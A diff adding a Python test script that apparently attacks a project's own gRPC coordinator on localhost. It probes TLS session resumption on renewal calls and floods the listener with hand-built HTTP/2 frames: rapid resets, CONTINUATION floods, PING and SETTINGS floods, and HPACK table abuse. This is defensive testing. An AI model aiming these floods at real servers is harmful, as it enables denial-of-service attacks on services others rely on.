@@ -1,0 +1,138 @@
+"""Attacks on the coordinator's TLS listeners that a gRPC client cannot make.
+
+usage: attacks.py resume PORT IDENTITY REQUEST FIFO
+       attacks.py flood PORT NAME ROOTS KIND
+
+resume: asks for a renewal as the host of IDENTITY (a worker's identity.json), prints `served` or `refused`, opens
+FIFO and reads it to its end, asks again over a resumed TLS session, and prints whether the session was resumed and what
+the answer was.
+
+flood: opens a connection without a credential, sends 20,000 frames of one KIND, and prints how it ended. What the coordinator
+answers is not read: that is part of the attack.
+"""
+import json, socket, ssl, struct, sys, tempfile
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
+
+
+def frame(kind, flags, stream, payload=b""):
+    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
+
+
+def field(name, value):
+    """A header field that no table keeps (RFC 7541, section 6.2.2)."""
+    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value
+
+
+def head(path, authority):
+    return (
+        b"\x83\x87" + b"\x04" + bytes([len(path)]) + path + b"\x01" + bytes([len(authority)]) + authority
+        + field(b"content-type", b"application/grpc") + field(b"te", b"trailers"))
+
+
+def context(roots, certificate=None, key=None):
+    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+    context.load_verify_locations(cadata=roots)
+    context.set_alpn_protocols(["h2"])
+    if certificate:
+        with tempfile.NamedTemporaryFile("w") as file:
+            file.write(certificate + "\n" + key)
+            file.flush()
+            context.load_cert_chain(file.name)
+    return context
+
+
+def connect(context, port, name, session=None):
+    connection = context.wrap_socket(
+        socket.create_connection(("127.0.0.1", port)), server_hostname=name, session=session)
+    connection.settimeout(60)
+    return connection
+
+
+def frames(connection):
+    buffer = b""
+    while True:
+        while len(buffer) < 9 or len(buffer) < 9 + int.from_bytes(buffer[:3], "big"):
+            try:
+                part = connection.recv(65536)
+            except (ssl.SSLError, ConnectionError):
+                return
+            if not part:
+                return
+            buffer += part
+        length = int.from_bytes(buffer[:3], "big")
+        yield buffer[3], buffer[4], int.from_bytes(buffer[5:9], "big"), buffer[9:9 + length]
+        buffer = buffer[9 + length:]
+
+
+def renew(context, port, name, request, session=None):
+    """Returns the answer, the session, and whether it was resumed. Only a call that is served is answered with data."""
+    try:
+        connection = connect(context, port, name, session)
+        length = len(request)
+        message = b"\x0a" + bytes([length & 0x7F | 0x80, length >> 7] if length > 127 else [length]) + request
+        connection.sendall(
+            PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, 4, 1, head(b"/baton.v1.Workers/Renew", name.encode()))
+            + frame(DATA, 1, 1, b"\x00" + struct.pack(">I", len(message)) + message))
+        served = False
+        for kind, flags, stream, _ in frames(connection):
+            if kind == SETTINGS and not flags & 1:
+                connection.sendall(frame(SETTINGS, 1, 0))
+            served = served or (kind == DATA and stream == 1)
+            if stream == 1 and (kind == RST_STREAM or flags & 1 and kind in (DATA, HEADERS)):
+                break
+        return ("served" if served else "refused"), connection.session, connection.session_reused
+    except (ssl.SSLError, ConnectionError) as error:
+        print(f"handshake: {error}", file=sys.stderr)
+        return "refused", None, False
+
+
+def resume(port, identity, request, fifo):
+    identity = json.load(open(identity))
+    name = identity["fleet"] + ".coordinator.baton"
+    tls = context("\n".join(identity["roots"]), identity["certificate"], identity["key"])
+    answer, session, _ = renew(tls, port, name, request)
+    print(answer, flush=True)
+    open(fifo).read()
+    answer, _, reused = renew(tls, port, name, request, session)
+    print("resumed" if reused else "not resumed", answer, flush=True)
+
+
+def flood(port, name, roots, kind):
+    connection = connect(context(open(roots).read()), port, name)
+    start = head(b"/baton.v1.Operators/List", name.encode())
+    bursts = {
+        "reset": lambda n: frame(HEADERS, 4, 2 * n + 1, start) + frame(RST_STREAM, 0, 2 * n + 1, b"\0\0\0\x08"),
+        "streams": lambda n: frame(HEADERS, 4, 2 * n + 1, start),
+        "continuation": lambda n: frame(HEADERS, 0, 1, start) if n == 0 else frame(CONTINUATION, 0, 1, field(b"a", b"b" * 64)),
+        "empty-continuation": lambda n: frame(HEADERS, 0, 1, start) if n == 0 else frame(CONTINUATION, 0, 1),
+        "settings": lambda n: frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)),
+        "ping": lambda n: frame(PING, 0, 0, b"12345678"),
+        "priority": lambda n: frame(PRIORITY, 0, 2 * n + 3, struct.pack(">IB", 0, 1)),
+        "empty-data": lambda n: frame(HEADERS, 4, 1, start) if n == 0 else frame(DATA, 0, 1),
+        "window": lambda n: frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFFFFFF)),
+        "unfinished": lambda n: frame(HEADERS, 4, 2 * n + 1, start) + frame(DATA, 0, 2 * n + 1, b"\0\0\xff\xff\xff"),
+        "table": lambda n: frame(HEADERS, 4, 2 * n + 1, start + b"\x40\x01a\x7f\x00" + b"b" * 127 + b"\xbe" * 512),
+    }
+    burst, sent, how = bursts[kind], 0, "still open"
+    connection.settimeout(5)
+    try:
+        connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
+        for first in range(0, 20000, 100):
+            connection.sendall(b"".join(burst(n) for n in range(first, first + 100)))
+            sent = first + 100
+    except socket.timeout:
+        how = "not read any more"
+    except (ssl.SSLError, ConnectionError, OSError):
+        how = "closed"
+    print(f"{how} after {sent} frames", flush=True)
+
+
+if __name__ == "__main__":
+    if sys.argv[1:2] == ["resume"]:
+        resume(int(sys.argv[2]), sys.argv[3], open(sys.argv[4], "rb").read(), sys.argv[5])
+    elif sys.argv[1:2] == ["flood"]:
+        flood(int(sys.argv[2]), *sys.argv[3:])
+    else:
+        sys.exit(__doc__)
